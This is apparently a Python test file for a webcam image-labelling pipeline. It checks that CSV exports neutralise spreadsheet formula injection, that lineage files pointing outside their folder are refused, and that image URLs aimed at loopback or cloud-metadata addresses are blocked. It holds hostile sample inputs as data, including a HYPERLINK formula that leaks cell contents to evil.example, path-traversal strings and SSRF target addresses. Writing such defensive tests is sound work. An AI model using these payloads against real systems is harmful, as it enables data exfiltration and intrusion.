"""What a stranger may have written into the database: data here, formulas in a spreadsheet."""

import csv
import hashlib
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from webcam_ml.contracts import for_spreadsheets, from_spreadsheets
from webcam_ml.dataset import Manifest, build_manifest
from webcam_ml.dataset.images import ImageCache, ImageIndex, ImageSettings, build_image_index
from webcam_ml.labels import LabelDatabase, LabelQuery, Labels, read_labels
from webcam_ml.store import ArtifactDamagedError, ArtifactStore
from webcam_ml.store._lineage import FileRecord, Lineage, data_version
from webcam_ml_tests.faults.labelled import fill
from webcam_ml_tests.label_schema import Rows, plain_rows
from webcam_ml_tests.scoring.pictures import encoded, photograph

FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
STARTS = tuple("=+-@\t\r\n＝＋－＠")


def test_no_spreadsheet_runs_what_a_manifest_holds_and_no_value_changes(tmp_path: Path) -> None:
    rows = plain_rows(n_webcams=30)
    picture = tmp_path / "a.png"
    picture.write_bytes(encoded(photograph(), "PNG"))
    hostile = {"phase": "@SUM(A1)", "firebase_url": str(picture)}
    snapshots = [dict(row) | hostile for row in rows.snapshots]
    snapshots[0]["firebase_url"] = FORMULA
    webcams = tuple(dict(row) | {"title": FORMULA} for row in rows.webcams)
    url = fill(f"sqlite:///{tmp_path}/labels.db", Rows(webcams, tuple(snapshots), rows.ratings))
    labels = read_labels(LabelDatabase(url), LabelQuery())
    manifest = build_manifest(labels)
    index = build_image_index(
        manifest.frame, cache=ImageCache(tmp_path / "cache"), settings=ImageSettings()
    )
    assert FORMULA in index.failed()["source"].to_list()
    for value, name in ((labels, "labels"), (manifest, "manifest"), (index, "index")):
        folder = tmp_path / name
        folder.mkdir()
        value.save(folder)
        for path in folder.glob("*.csv"):
            with path.open(newline="") as file:
                for line in csv.reader(file):
                    assert not [cell for cell in line if cell.startswith(STARTS)], path
    assert Labels.load(tmp_path / "labels").frame.equals(labels.frame)
    assert Manifest.load(tmp_path / "manifest").frame.equals(manifest.frame)
    assert Manifest.load(tmp_path / "manifest").details.equals(manifest.details)
    assert ImageIndex.load(tmp_path / "index").frame.equals(index.frame)


@given(st.lists(st.text(alphabet=st.sampled_from([*STARTS, "'", "a", "1"])) | st.none()))
def test_an_apostrophe_that_was_added_can_always_be_taken_away(texts: list[str | None]) -> None:
    frame = pl.DataFrame({"text": texts}, schema={"text": pl.String})
    safe = frame.with_columns(for_spreadsheets())
    assert not [text for text in safe["text"] if text is not None and text.startswith(STARTS)]
    assert safe.with_columns(from_spreadsheets()).equals(frame)


@pytest.mark.parametrize("way", ["../outside", "./../outside", "absolute"])
def test_a_lineage_that_leads_outside_of_its_folder_is_refused(tmp_path: Path, way: str) -> None:
    """Whoever hands over a folder of artifacts may have written its lineage.json too."""
    content = b"a file of somebody else"
    outside = tmp_path / "labels_raw" / "outside"
    outside.parent.mkdir()
    outside.write_bytes(content)
    name = str(outside) if way == "absolute" else way
    files = {name: FileRecord(hashlib.sha256(content).hexdigest(), len(content))}
    version = data_version(files, {})
    folder = tmp_path / "labels_raw" / f"20260101T000000Z-{version[:12]}"
    folder.mkdir(parents=True)
    lineage = Lineage(
        asset="labels_raw", data_version=version, files=files, inputs={}, ancestors={},
        run_id="", config={}, code_version={}, libraries={}, created_at="", database=None,
    )  # fmt: skip
    (folder / "lineage.json").write_bytes(lineage.to_json())
    assert (folder / name).read_bytes() == content
    with pytest.raises(ArtifactDamagedError, match="no file of its folder"):
        ArtifactStore(tmp_path).find("labels_raw", version).verify()


def test_pictures_named_after_private_addresses_are_failures_of_their_own(tmp_path: Path) -> None:
    private = ["http://127.0.0.1/a.jpg", "http://169.254.169.254/latest", "https://[::1]/b.png"]
    picture = tmp_path / "a.png"
    picture.write_bytes(encoded(photograph(), "PNG"))
    sources = pl.DataFrame(
        {"snapshot_id": range(4), "image_path_or_url": [*private, str(picture)]},
        schema={"snapshot_id": pl.Int64, "image_path_or_url": pl.String},
    )
    index = build_image_index(
        sources,
        cache=ImageCache(tmp_path / "cache"),
        settings=ImageSettings(max_failed_fraction=0.9),
    )
    assert index.failures_by_reason() == {"forbidden_address": 3}
